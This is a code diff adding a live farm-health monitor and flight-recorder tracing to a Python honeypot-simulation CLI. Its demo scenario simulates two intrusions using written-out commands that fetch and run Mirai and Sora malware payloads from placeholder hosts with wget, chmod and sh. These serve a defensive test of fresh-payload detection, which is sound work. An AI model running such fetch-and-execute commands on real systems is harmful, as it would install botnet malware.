@@ -57,6 +57,19 @@ def _add_scenario_args(parser: argparse.ArgumentParser) -> None:
                              "a fingerprint of the scenario config; a rerun "
                              "with the same config loads instead of "
                              "regenerating (default: $REPRO_CACHE if set)")
+    _add_trace_args(parser)
+
+
+def _add_trace_args(parser: argparse.ArgumentParser) -> None:
+    parser.add_argument("--trace", nargs="?", const="-", default=None,
+                        metavar="PATH",
+                        help="record the flight-recorder event stream; bare "
+                             "--trace renders the span timeline to stderr, "
+                             "with PATH the events also stream there as "
+                             "JSONL (REPRO_TRACE env does the same)")
+    parser.add_argument("--trace-chrome", default=None, metavar="PATH",
+                        help="with tracing on, also write the Chrome "
+                             "trace_event JSON for about://tracing")
 
 
 def _add_load_arg(parser: argparse.ArgumentParser) -> None:
@@ -251,6 +264,173 @@ def _emit_metrics(flag) -> None:
         print(f"metrics json written to {target}", file=sys.stderr)
 
 
+def cmd_monitor(args) -> int:
+    """Live farm-health monitor: demo scenario, or tail a JSONL trace."""
+    from repro.farm.health import FarmHealthMonitor, HealthConfig
+
+    monitor = FarmHealthMonitor(HealthConfig(
+        liveness_timeout=args.liveness_timeout,
+        interval=args.interval,
+        z_threshold=args.z_threshold,
+    ))
+    if args.input:
+        status = _monitor_tail(args, monitor)
+    else:
+        status = _monitor_demo(args, monitor)
+    if args.prometheus:
+        from repro.obs import get_metrics, render_prometheus
+
+        with open(args.prometheus, "w", encoding="utf-8") as fh:
+            fh.write(render_prometheus(get_metrics()))
+        print(f"prometheus metrics written to {args.prometheus}",
+              file=sys.stderr)
+    return status
+
+
+def _monitor_report(monitor) -> None:
+    print(monitor.render_table())
+    if monitor.notices:
+        print("\n-- fresh-hash notifications --")
+        for notice in monitor.notices:
+            print(notice.render())
+            print()
+
+
+def _monitor_tail(args, monitor) -> int:
+    """Consume a flight-recorder JSONL stream (optionally following it)."""
+    import json
+    import time
+
+    from repro.obs.trace import validate_trace
+
+    events = []
+    consumed = 0
+    bad_lines = 0
+    with open(args.input, "r", encoding="utf-8") as fh:
+        idle = 0.0
+        while True:
+            line = fh.readline()
+            if not line:
+                if not args.follow or idle >= args.idle_exit:
+                    break
+                time.sleep(0.2)
+                idle += 0.2
+                continue
+            idle = 0.0
+            line = line.strip()
+            if not line:
+                continue
+            try:
+                event = json.loads(line)
+            except ValueError:
+                bad_lines += 1
+                continue
+            monitor.feed(event)
+            consumed += 1
+            if args.validate:
+                events.append(event)
+    _monitor_report(monitor)
+    if bad_lines:
+        print(f"warning: {bad_lines} unparseable lines skipped",
+              file=sys.stderr)
+    if args.validate:
+        problems = validate_trace(events)
+        if problems:
+            print(f"trace INVALID: {len(problems)} problems",
+                  file=sys.stderr)
+            for problem in problems[:20]:
+                print(f"  {problem}", file=sys.stderr)
+            return 1
+        print(f"trace valid: {consumed} events", file=sys.stderr)
+    return 0
+
+
+def _monitor_demo(args, monitor) -> int:
+    """A small live-farm scenario exercising every alert path.
+
+    Deterministic in ``--seed``: round-robin scans (half the pots go silent
+    mid-run — the liveness demonstration), periodic scouting probes, two
+    intrusions whose ``wget`` drops never-before-seen payloads (the
+    fresh-hash notification path), and a session burst near the end (the
+    rate-drift demonstration).
+    """
+    from repro.farm.live import (
+        IntrusionBehavior,
+        LiveFarm,
+        ScanBehavior,
+        ScoutBehavior,
+    )
+
+    farm = LiveFarm(seed=args.seed, n_honeypots=args.pots,
+                    event_tap=monitor.on_event)
+    pots = len(farm.honeypots)
+    monitor.watch(h.honeypot_id for h in farm.honeypots)
+    duration = args.duration
+    busy = max(1, min(3, pots))  # pots that stay active all run
+
+    when, i = 5.0, 0
+    while when < duration:
+        index = i % pots if when < duration / 2 else i % busy
+        farm.launch(0x0A000000 + (i * 7919) % 65521, index,
+                    ScanBehavior(), at=when)
+        i += 1
+        when += 20.0
+    when, j = 45.0, 0
+    while when < duration:
+        farm.launch(0x0B000000 + (j * 104729) % 65521, j % busy,
+                    ScoutBehavior(), at=when)
+        j += 1
+        when += 150.0
+    farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
+        "wget http://203.0.113.9/bins/mirai.arm7",
+        "chmod +x mirai.arm7",
+        "./mirai.arm7",
+    )), at=duration * 0.25)
+    farm.launch(0x0C000002, 1 % pots, IntrusionBehavior(lines=(
+        "wget http://198.51.100.7/payload/sora.sh",
+        "sh sora.sh",
+    )), at=duration * 0.6)
+    burst0 = duration * 0.85
+    for k in range(40):
+        farm.launch(0x0D000000 + k, k % busy, ScanBehavior(),
+                    at=burst0 + float(k))
+
+    farm.run()
+    farm.harvest(duration + 600.0)
+    monitor.advance(duration)
+    _monitor_report(monitor)
+    return 0
+
+
+def _run_traced(args, target: str) -> int:
+    """Run the command under a flight recorder, then report the trace."""
+    from repro.obs import dump_chrome_trace, render_timeline
+    from repro.obs.trace import Tracer, use_tracer
+
+    to_file = target not in ("-", "1", "stderr")
+    sink = open(target, "w", encoding="utf-8") if to_file else None
+    tracer = Tracer(sink=sink)
+    try:
+        with use_tracer(tracer):
+            status = args.func(args)
+    finally:
+        if sink is not None:
+            sink.close()
+    events = tracer.to_list()
+    print(render_timeline(events), file=sys.stderr)
+    note = f"trace: {tracer.emitted} events"
+    if tracer.dropped:
+        note += f" ({tracer.dropped} dropped from the ring buffer)"
+    if to_file:
+        note += f", jsonl streamed to {target}"
+    print(note, file=sys.stderr)
+    chrome = getattr(args, "trace_chrome", None)
+    if chrome:
+        dump_chrome_trace(events, chrome)
+        print(f"chrome trace written to {chrome}", file=sys.stderr)
+    return status
+
+
 def main(argv=None) -> int:
     parser = argparse.ArgumentParser(
         prog="repro",
@@ -280,8 +460,45 @@ def main(argv=None) -> int:
     _add_load_arg(p_validate)
     p_validate.set_defaults(func=cmd_validate)
 
+    p_monitor = sub.add_parser(
+        "monitor", help="live farm-health monitor (demo scenario, or tail "
+                        "a --trace JSONL stream)")
+    p_monitor.add_argument("--input", default=None, metavar="PATH",
+                           help="consume a flight-recorder JSONL trace "
+                                "instead of running the demo scenario")
+    p_monitor.add_argument("--follow", action="store_true",
+                           help="with --input, keep tailing for new lines")
+    p_monitor.add_argument("--idle-exit", type=float, default=10.0,
+                           help="with --follow, stop after this many "
+                                "seconds without new lines")
+    p_monitor.add_argument("--validate", action="store_true",
+                           help="schema-validate the consumed events; "
+                                "exit 1 on problems")
+    p_monitor.add_argument("--seed", type=int, default=7)
+    p_monitor.add_argument("--duration", type=float, default=3600.0,
+                           help="demo scenario length in simulated seconds")
+    p_monitor.add_argument("--pots", type=int, default=8,
+                           help="honeypots in the demo farm")
+    p_monitor.add_argument("--interval", type=float, default=60.0,
+                           help="drift-statistics interval (sim seconds)")
+    p_monitor.add_argument("--liveness-timeout", type=float, default=900.0)
+    p_monitor.add_argument("--z-threshold", type=float, default=3.0)
+    p_monitor.add_argument("--prometheus", default=None, metavar="PATH",
+                           help="write the metrics registry in Prometheus "
+                                "text format after the run")
+    _add_trace_args(p_monitor)
+    p_monitor.set_defaults(func=cmd_monitor)
+
     args = parser.parse_args(argv)
-    status = args.func(args)
+    import os
+
+    trace_flag = getattr(args, "trace", None)
+    trace_target = (trace_flag if trace_flag is not None
+                    else os.environ.get("REPRO_TRACE"))
+    if trace_target:
+        status = _run_traced(args, trace_target)
+    else:
+        status = args.func(args)
     _emit_metrics(getattr(args, "metrics", None))
     return status
 
